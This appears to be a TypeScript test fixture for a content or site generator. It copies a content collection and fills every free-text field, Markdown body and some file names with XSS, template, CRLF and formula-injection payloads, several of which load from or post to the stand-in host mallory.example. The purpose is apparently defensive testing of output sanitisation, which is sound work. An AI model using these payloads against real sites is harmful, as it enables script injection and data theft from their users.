import { glob, mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { readEntry } from '../../src/content/read-entry.ts';
import { newEntryText } from '../../src/content/write-entry.ts';
import { collectionFolders, collectionNames } from '../../src/schema/collections.ts';

/** The word that every attack holds, by which a test finds it again. */
export const mark = 'attaque';

/** What is written in place of each free text: script by every door that HTML, XML and addresses have. */
export const payloads: readonly string[] = [
  `<script>${mark}()</script><img src=x onerror=${mark}()>`,
  `"><svg/onload=${mark}()>'-${mark}()-'`,
  `javascript:${mark}()`,
  `</script></style></title></textarea>--><script>${mark}()</script>`,
  `=${mark}("https://mallory.example")`,
  `{{constructor.constructor("${mark}()")()}}\${${mark}()}`,
  `]]><script>${mark}()</script>&lt;img src=x onerror=${mark}()&gt;`,
  `data:text/html;base64,${Buffer.from(`<script>${mark}()</script>`).toString('base64')}#${mark}`,
  `a\r\nATTENDEE:mailto:${mark}@mallory.example\r\nX-Attaque: ${mark}`,
  ` \tjava\tscript:${mark}()`,
  `/${mark}/*`,
  `/:x/${mark}`,
  `//mallory.example/${mark}`,
];

/** Markdown that tries the same, and to load from elsewhere. */
const body = `
<script>${mark}()</script><SCRIPT SRC=https://mallory.example/${mark}.js></SCRIPT>
<img src=x onerror=${mark}()> <img src="https://mallory.example/${mark}.png"> <img src="//mallory.example/${mark}">
<img src="/\\mallory.example/${mark}"> <img src="\\\\mallory.example\\${mark}"> <img src="/&#9;/mallory.example/${mark}">
<img src="https&#58;//mallory.example/${mark}"> <img srcset="https://mallory.example/${mark} 2x" src="a.png">
<svg onload=${mark}()><script>${mark}()</script><a xlink:href="javascript:${mark}()">x</a></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror=${mark}()></style></mglyph></math>
<a href="javascript:${mark}()">a</a> <a href="java&#115;cript:${mark}()">b</a> <a href=" javascript:${mark}()">c</a>
<a href="data:text/html,<script>${mark}()</script>">d</a> <a href="vbscript:${mark}">e</a> <a href=x onclick=${mark}()>f</a>
<form action="https://mallory.example/${mark}"><input name=mdp><button formaction="javascript:${mark}()">ok</button></form>
<iframe src="javascript:${mark}()"></iframe><iframe srcdoc="<script>${mark}()</script>"></iframe>
<object data="data:text/html,${mark}"></object><embed src="https://mallory.example/${mark}"><base href="https://mallory.example/">
<meta http-equiv="refresh" content="0;url=https://mallory.example/${mark}"><link rel=stylesheet href=https://mallory.example/${mark}>
<style>@import 'https://mallory.example/${mark}';</style><p style="background:url(https://mallory.example/${mark})" id="main" class="fr-hidden">g</p>
<video src=https://mallory.example/${mark} autoplay onplay=${mark}()></video><audio src=https://mallory.example/${mark}></audio>

[h](javascript:${mark}()) [i](<javascript:${mark}()>) [j](data:text/html;base64,PHNjcmlwdD4=) [k](JaVaScRiPt:${mark}())
[l]: javascript:${mark}() "x"
[l] ![m](javascript:${mark}()) ![n](https://mallory.example/${mark}.png) ![o](data:image/svg+xml,<svg/onload=${mark}()>)
![p](/\\mallory.example/${mark}) <javascript:${mark}()> <data:text/html,${mark}> javascript:${mark}()
[q](https://exemple.fr "onmouseover=${mark}()") [r](https://exemple.fr/"onmouseover="${mark}()) ![s](x" onerror="${mark}())
{: onclick="${mark}()" } {::nomarkdown}<script>${mark}()</script>{:/}
[^1] {% include ${mark} %} {{ ${mark} }} <%= ${mark} %> ]]> <?php ${mark}() ?> <!--><script>${mark}()</script>-->

[^1]: <script>${mark}()</script>

# <img src=x onerror=${mark}()> {#x" onclick="${mark}()}

{% hint style="x\\" onclick=\\"${mark}()" %}<script>${mark}()</script>{% endhint %}
{% embed url="javascript:${mark}()" %}
{% tabs %}{% tab title="<img src=x onerror=${mark}()>" %}a{% endtab %}{% endtabs %}
{% content-ref url="javascript:${mark}()" %}[x](javascript:${mark}()){% endcontent-ref %}
{% code title="<script>${mark}()</script>" %}
\`\`\`js" onclick="${mark}()
</code></pre><script>${mark}()</script>
\`\`\`
{% endcode %}
`;

/**
 * Writes a copy of a content whose every free text attacks, where its schema lets it through, and whose every file has
 * attacking Markdown; and entries whose very names attack. How many texts were let through.
 */
export async function writeHostileContent(from: string, to: string): Promise<number> {
  let count = 0;
  for await (const path of glob('**/*', { cwd: from, withFileTypes: false })) {
    const collection = collectionNames.find((name) => path.startsWith(`${collectionFolders[name]}/`));
    if (collection === undefined || !path.endsWith('.md')) continue;
    const text = await readFile(join(from, path), 'utf8');
    const { entry } = readEntry(collection, { path, text });
    if (entry === undefined) continue;
    const attack = (values: Record<string, unknown>): Record<string, unknown> => {
      let taken = values;
      for (const leaf of leavesOf(values)) {
        const payload = payloads[count % payloads.length] ?? '';
        const tried = withLeaf(taken, leaf, payload);
        const read = readEntry(collection, { path, text: newEntryText(tried, body) });
        if (read.entry === undefined || read.problems.length > 0) continue;
        taken = tried;
        count += 1;
      }
      return taken;
    };
    const hostile = newEntryText(attack({ ...entry.raw }), body);
    await write(join(to, path), hostile);
    if (collection === 'docs') continue;
    const name = `${path.slice(0, -'.md'.length)}${namesLeft.pop() ?? ''}.md`;
    if (!name.endsWith(path.slice(path.lastIndexOf('/')))) await write(join(to, name), hostile);
  }
  return count;
}

/** Names of files that attack the pages and links that are made of them. */
const namesLeft = [
  `"><img src=x onerror=${mark}()>`,
  `' onclick='${mark}()`,
  `<svg onload=${mark}()>`,
  `{{${mark}()}}`,
];

async function write(path: string, text: string): Promise<void> {
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, text);
}

type Leaf = readonly (string | number)[];

function leavesOf(value: unknown, path: Leaf = []): Leaf[] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((item, index) => leavesOf(item, [...path, index]));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, held]) => leavesOf(held, [...path, key]));
}

function withLeaf(values: Record<string, unknown>, path: Leaf, text: string): Record<string, unknown> {
  const copy = structuredClone(values);
  const last = path.at(-1);
  let holder: unknown = copy;
  for (const key of path.slice(0, -1)) holder = (holder as Record<string | number, unknown>)[key];
  if (last !== undefined) (holder as Record<string | number, unknown>)[last] = text;
  return copy;
}
